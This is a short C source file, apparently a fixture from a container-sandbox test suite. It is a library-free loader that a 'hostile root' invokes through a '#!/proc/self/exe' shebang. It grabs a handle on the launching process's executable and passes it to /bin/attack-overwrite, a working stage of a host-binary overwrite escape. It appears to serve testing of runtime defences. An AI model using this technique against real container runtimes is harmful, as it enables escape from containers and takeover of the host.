// SPDX-License-Identifier: MIT
// The loader in a hostile root: what the kernel starts where the program is a script whose first line is
// "#!/proc/self/exe", and the file of the process that starts it is dynamic. It keeps a handle of that
// file, and becomes /bin/attack-overwrite. It has no C library, which would take the headers of the
// other program for its own.
#include <fcntl.h>
#include <sys/syscall.h>

static long call(long number, long a, long b, long c, long d) {
  long result = number;
  register long fourth asm("r10") = d;
  asm volatile("syscall" : "+a"(result) : "D"(a), "S"(b), "d"(c), "r"(fourth) : "rcx", "r11", "memory");
  return result;
}

__attribute__((noreturn, used)) static void start(void) {
  static const char program[] = "/bin/attack-overwrite";
  static char digits[] = "  ";
  long fd = call(SYS_openat, AT_FDCWD, (long)"/proc/self/exe", O_PATH, 0);
  digits[0] = (char)('0' + fd / 10);
  digits[1] = (char)('0' + fd % 10);
  char* argv[] = {(char*)program, digits, 0};
  char* environment[] = {0};
  if (fd >= 0) call(SYS_execve, (long)program, (long)argv, (long)environment, 0);
  for (;;) call(SYS_exit_group, 99, 0, 0, 0);
}

asm(".globl _start\n_start:\n and $-16, %rsp\n call start\n");
